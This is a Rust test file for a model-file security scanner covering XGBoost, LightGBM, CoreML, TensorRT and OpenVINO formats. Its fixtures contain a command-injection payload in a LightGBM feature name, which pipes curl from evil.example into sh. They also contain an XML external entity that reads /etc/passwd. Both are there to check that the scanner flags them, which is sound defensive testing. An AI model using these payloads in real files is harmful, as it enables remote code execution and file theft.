//! Long-tail formats, part C, through the `cordon` binary: tree models (XGBoost,
//! LightGBM) and runtime formats (CoreML, TensorRT).

mod support;

use support::{Fixture, checks, file};

fn scan(f: &Fixture, path: &str) -> serde_json::Value {
    f.run(&["scan", "--format", "json", path]).json()
}

fn with_rule<'a>(
    report: &'a serde_json::Value,
    name: &str,
    prefix: &str,
) -> Vec<&'a serde_json::Value> {
    checks(report, name)
        .into_iter()
        .filter(|c| c["rule"].as_str().is_some_and(|r| r.starts_with(prefix)))
        .collect()
}

fn meta<'a>(report: &'a serde_json::Value, name: &str, key: &str) -> Option<&'a str> {
    file(report, name)["metadata"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["key"] == key)
        .and_then(|m| m["value"].as_str())
}

const XGBOOST: &str = r#"{"learner":{"attributes":{},"feature_names":["age","income"],"feature_types":["float","float"],"gradient_booster":{"model":{"gbtree_model_param":{"num_parallel_tree":"1","num_trees":"1"},"tree_info":[0],"trees":[{"base_weights":[0.5],"left_children":[-1],"right_children":[-1]}]},"name":"gbtree"},"learner_model_param":{"base_score":"5E-1","num_class":"0","num_feature":"2"},"objective":{"name":"binary:logistic"}},"version":[2,1,3]}"#;

#[test]
fn xgboost_json_model_passes() {
    let f = Fixture::new();
    f.write("model.json", XGBOOST);
    let report = scan(&f, "model.json");
    let gbdt = with_rule(&report, "model.json", "gbdt-");
    assert!(gbdt.len() >= 3, "{gbdt:?}");
    assert!(gbdt.iter().all(|c| c["status"] == "passed"), "{gbdt:?}");
    assert_eq!(meta(&report, "model.json", "library"), Some("xgboost"));
    assert_eq!(meta(&report, "model.json", "trees"), Some("1"));
}

#[test]
fn lightgbm_feature_name_with_a_shell_command_is_flagged() {
    let f = Fixture::new();
    let model = "tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=1\nobjective=regression\nfeature_names=$(curl${IFS}evil.example|sh) f1\ntree_sizes=10\n\nTree=0\nnum_leaves=1\nleaf_value=0.5\n\n\nend of trees\n\nparameters:\n[boosting: gbdt]\nend of parameters\n";
    // No extension: routed by sniffing.
    f.write("booster", model);
    let report = scan(&f, "booster");
    let failed: Vec<_> = with_rule(&report, "booster", "gbdt-")
        .into_iter()
        .filter(|c| c["status"] == "failed")
        .collect();
    assert_eq!(failed.len(), 1, "{failed:?}");
    assert_eq!(failed[0]["rule"], "gbdt-suspicious-string");
    assert_eq!(failed[0]["severity"], "medium");
    assert_eq!(meta(&report, "booster", "library"), Some("lightgbm"));
}

/// A protobuf field: tag, then a length-delimited payload.
fn field(number: u32, payload: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    for mut v in [u64::from(number) << 3 | 2, payload.len() as u64] {
        while v >= 0x80 {
            out.push(v as u8 | 0x80);
            v >>= 7;
        }
        out.push(v as u8);
    }
    out.extend_from_slice(payload);
    out
}

#[test]
fn coreml_custom_model_is_flagged_medium() {
    let f = Fixture::new();
    let mut model = vec![0x08, 0x05]; // specificationVersion = 5
    model.extend(field(555, &field(10, b"EvilNativeModel")));
    f.write("custom.mlmodel", &model);
    let report = scan(&f, "custom.mlmodel");
    let failed: Vec<_> = with_rule(&report, "custom.mlmodel", "coreml-")
        .into_iter()
        .filter(|c| c["status"] == "failed")
        .collect();
    assert_eq!(failed.len(), 1, "{failed:?}");
    assert_eq!(failed[0]["rule"], "coreml-custom-code");
    assert_eq!(failed[0]["severity"], "medium");
    assert_eq!(
        meta(&report, "custom.mlmodel", "model-type"),
        Some("customModel")
    );
}

#[test]
fn tensorrt_engine_gets_its_cannot_inspect_check() {
    let f = Fixture::new();
    f.write("model.engine", [0x66u8, 0x74, 0x72, 0x74].repeat(256));
    let report = scan(&f, "model.engine");
    let opaque: Vec<_> = checks(&report, "model.engine")
        .into_iter()
        .filter(|c| c["rule"] == "tensorrt-opaque-engine")
        .collect();
    assert_eq!(opaque.len(), 1);
    assert_eq!(opaque[0]["status"], "skipped");
    assert!(
        opaque[0]["message"]
            .as_str()
            .unwrap()
            .contains("cannot inspect")
    );
}

#[test]
fn readme_and_plain_json_config_get_none_of_these_rules() {
    let f = Fixture::new();
    f.write(
        "README.md",
        "# Model\n\ntree\nversion=v4\nA model card with http://example.com.\n",
    );
    f.write(
        "config.json",
        r#"{"architectures":["BertModel"],"hidden_size":768,"learner":"none"}"#,
    );
    for name in ["README.md", "config.json"] {
        let report = scan(&f, name);
        for prefix in ["gbdt-", "coreml-", "executorch-", "tensorrt-"] {
            assert!(
                with_rule(&report, name, prefix).is_empty(),
                "{name} got {prefix} checks"
            );
        }
    }
}

#[test]
fn openvino_ir_with_an_entity_or_extension_op_is_flagged() {
    let f = Fixture::new();
    f.write(
        "model.xml",
        r#"<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="x" type="Parameter" version="opset1"/></layers></net>"#,
    );
    f.write(
        "evil.xml",
        r#"<?xml version="1.0"?><!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]><net name="m" version="11"><layers><layer id="0" name="y" type="Shell" version="custom_ops"/></layers></net>"#,
    );
    f.write(
        "other.xml",
        r#"<?xml version="1.0"?><project><name>not a model</name></project>"#,
    );
    let run = f.run(&["scan", "--format", "json", "."]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let report = run.json();
    let failed_rules = |name: &str| -> Vec<String> {
        checks(&report, name)
            .into_iter()
            .filter(|c| c["status"] == "failed")
            .map(|c| c["rule"].as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(
        failed_rules("evil.xml"),
        vec!["openvino-doctype", "openvino-extension-op"]
    );
    assert!(failed_rules("model.xml").is_empty());
    assert_eq!(file(&report, "model.xml")["formats"][0], "openvino-ir");
    assert!(with_rule(&report, "other.xml", "openvino-").is_empty());
}
